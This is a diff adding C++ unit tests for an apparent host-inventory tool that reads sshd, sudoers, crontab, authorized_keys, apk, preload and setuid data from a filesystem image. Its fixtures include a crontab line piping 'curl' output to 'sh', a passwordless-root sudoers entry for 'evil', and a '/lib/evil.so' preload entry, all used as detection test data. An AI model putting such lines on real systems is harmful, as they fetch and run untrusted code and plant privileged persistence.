@@ -7,7 +7,9 @@
 
 #include <filesystem>
 #include <fstream>
+#include <algorithm>
 #include <string>
+#include <vector>
 
 #include "assets/tables.hpp"
 #include "gtest/gtest.h"
@@ -176,6 +178,128 @@ TEST_F(RootFsTest, SqlOverTheTables) {
   EXPECT_FALSE(a->Query("create table t(x)").ok());
   EXPECT_FALSE(a->Query("select 1; select 2").ok());
   EXPECT_FALSE(a->Query("attach database '/tmp/x.db' as x").ok());
+}
+
+// Rows of `t` as "col1|col2|..." for the given columns.
+std::vector<std::string> Flat(const AssetTable& t, std::initializer_list<const char*> cols) {
+  std::vector<std::string> out;
+  for (const auto& row : t.rows) {
+    std::string line;
+    for (const char* c : cols) {
+      int i = t.ColumnIndex(c);
+      line += (line.empty() ? "" : "|") + (i < 0 ? std::string("<no ") + c + ">"
+                                               : AssetValueToString(row[static_cast<size_t>(i)]));
+    }
+    out.push_back(line);
+  }
+  return out;
+}
+
+using Lines = std::vector<std::string>;
+
+TEST_F(RootFsTest, SshdConfigEffectiveValuesIncludesMatchAndDefaults) {
+  Write("etc/ssh/sshd_config",
+        "# comment\nInclude /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\n"
+        "PasswordAuthentication=no\nMatch User backup\n  PasswordAuthentication yes\n");
+  Write("etc/ssh/sshd_config.d/10-site.conf", "permitrootlogin no\nPort 2222\n");
+  Write("etc/ssh/sshd_config.d/ignored.txt", "Port 1\n");
+  auto a = Open();
+  ASSERT_TRUE(a);
+  AssetTable t = a->Collect("sshd_config");
+  ASSERT_TRUE(t.status.ok()) << t.status.ToString();
+  Lines rows = Flat(t, {"keyword", "value", "source", "match", "is_default"});
+  auto has = [&](const std::string& r) { return std::find(rows.begin(), rows.end(), r) != rows.end(); };
+  // The included file comes first, so its PermitRootLogin wins (sshd semantics).
+  EXPECT_TRUE(has("permitrootlogin|no|/etc/ssh/sshd_config.d/10-site.conf:1||0"));
+  EXPECT_TRUE(has("port|2222|/etc/ssh/sshd_config.d/10-site.conf:2||0"));
+  EXPECT_TRUE(has("passwordauthentication|no|/etc/ssh/sshd_config:4||0"));
+  EXPECT_TRUE(has("passwordauthentication|yes|/etc/ssh/sshd_config:6|User backup|0"));
+  EXPECT_TRUE(has("permitemptypasswords|no|default||1"));
+  EXPECT_FALSE(has("permitrootlogin|yes|/etc/ssh/sshd_config:3||0")) << "the second value must lose";
+  for (const auto& r : rows) EXPECT_EQ(r.find("|1|/etc/ssh/sshd_config.d/ignored.txt"), std::string::npos);
+}
+
+TEST_F(RootFsTest, SudoersRulesAndIncludes) {
+  Write("etc/sudoers",
+        "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) \\\n    NOPASSWD: ALL\n"
+        "@includedir /etc/sudoers.d\n");
+  Write("etc/sudoers.d/deploy", "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n");
+  Write("etc/sudoers.d/skipped.bak", "evil ALL=(ALL) NOPASSWD: ALL\n");
+  auto a = Open();
+  ASSERT_TRUE(a);
+  AssetTable t = a->Collect("sudoers");
+  ASSERT_TRUE(t.status.ok()) << t.status.ToString();
+  Lines rules;
+  for (const auto& r : Flat(t, {"kind", "principal", "nopasswd", "all_commands", "path", "line"}))
+    if (r.rfind("rule|", 0) == 0) rules.push_back(r);
+  EXPECT_EQ(rules, (Lines{"rule|root|0|1|/etc/sudoers|2", "rule|%sudo|1|1|/etc/sudoers|3",
+                          "rule|deploy|1|0|/etc/sudoers.d/deploy|1"}));
+}
+
+TEST_F(RootFsTest, CrontabsSystemAndPerUser) {
+  Write("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
+  Write("etc/cron.d/job", "@reboot root /opt/start.sh\n");
+  Write("var/spool/cron/crontabs/alice", "*/5 * * * * curl -s http://x | sh\nbroken\n");
+  auto a = Open();
+  ASSERT_TRUE(a);
+  AssetTable t = a->Collect("crontab");
+  ASSERT_TRUE(t.status.ok()) << t.status.ToString();
+  EXPECT_EQ(Flat(t, {"path", "user", "minute", "command"}),
+            (Lines{"/etc/crontab|root|17|cd / && run-parts --report /etc/cron.hourly",
+                   "/etc/cron.d/job|root|@reboot|/opt/start.sh",
+                   "/var/spool/cron/crontabs/alice|alice|*/5|curl -s http://x | sh"}));
+  ASSERT_EQ(t.warnings.size(), 1u);
+  EXPECT_EQ(t.warnings[0].rfind("/var/spool/cron/crontabs/alice:2:", 0), 0u) << t.warnings[0];
+}
+
+TEST_F(RootFsTest, AuthorizedKeysApkAndStartupItems) {
+  Write("etc/passwd", "root:x:0:0:root:/root:/bin/sh\nimg:x:1234:1234::/home/img:/bin/sh\n");
+  Write("root/.ssh/authorized_keys",
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG root@laptop\n"
+        "from=\"10.0.0.0/8\",command=\"/bin/echo hi there\" ssh-rsa AAAAB3Nza ops key\n"
+        "garbage\n");
+  Write("lib/apk/db/installed", "C:Q1x\nP:musl\nV:1.2.4-r2\nA:x86_64\nI:622592\no:musl\n\nP:busybox\nV:1.36\n");
+  Write("etc/ld.so.preload", "/lib/evil.so\n");
+  auto a = Open();
+  ASSERT_TRUE(a);
+  AssetTable keys = a->Collect("authorized_keys");
+  EXPECT_EQ(Flat(keys, {"username", "line", "key_type", "comment", "options"}),
+            (Lines{"root|1|ssh-ed25519|root@laptop|",
+                   "root|2|ssh-rsa|ops key|from=\"10.0.0.0/8\",command=\"/bin/echo hi there\""}));
+  EXPECT_EQ(keys.warnings.size(), 1u);
+  AssetTable apk = a->Collect("apk_packages");
+  EXPECT_EQ(Flat(apk, {"name", "version", "source", "size"}),
+            (Lines{"musl|1.2.4-r2|musl|622592", "busybox|1.36|busybox|"}));
+  AssetTable items = a->Collect("startup_items");
+  EXPECT_EQ(Flat(items, {"kind", "detail"}), (Lines{"ld.so.preload|/lib/evil.so"}));
+}
+
+TEST_F(RootFsTest, SuidBinsFoundWithoutFollowingLinks) {
+  Write("usr/bin/su", "x");
+  ASSERT_EQ(chmod((root_ / "usr/bin/su").c_str(), 04755), 0);
+  Write("usr/bin/wall", "x");
+  ASSERT_EQ(chmod((root_ / "usr/bin/wall").c_str(), 02755), 0);
+  Write("usr/bin/plain", "x");
+  // A symlink to a setuid file and a directory link out of the root: neither
+  // is followed (the walk would otherwise report the host's setuid files).
+  fs::create_symlink("/usr/bin/su", root_ / "usr/bin/su-link");
+  fs::create_directory_symlink("/", root_ / "hostroot");
+  auto a = Open();
+  ASSERT_TRUE(a);
+  AssetTable t = a->Collect("suid_bins");
+  ASSERT_TRUE(t.status.ok()) << t.status.ToString();
+  Lines rows = Flat(t, {"path", "mode", "suid", "sgid"});
+  std::sort(rows.begin(), rows.end());
+  EXPECT_EQ(rows, (Lines{"/usr/bin/su|4755|1|0", "/usr/bin/wall|2755|0|1"}));
+  for (const AssetTable& all : a->CollectAll()) EXPECT_NE(all.name, "suid_bins");
+  // A walk budget of zero entries stops at once, with a warning.
+  AssetOptions o;
+  o.walk_max_entries = 1;
+  auto small = Open(o);
+  AssetTable cut = small->Collect("suid_bins");
+  EXPECT_TRUE(cut.status.ok());
+  ASSERT_FALSE(cut.warnings.empty());
+  EXPECT_NE(cut.warnings[0].find("walk budget"), std::string::npos);
 }
 
 TEST(AssetsDoc, IsUpToDate) {
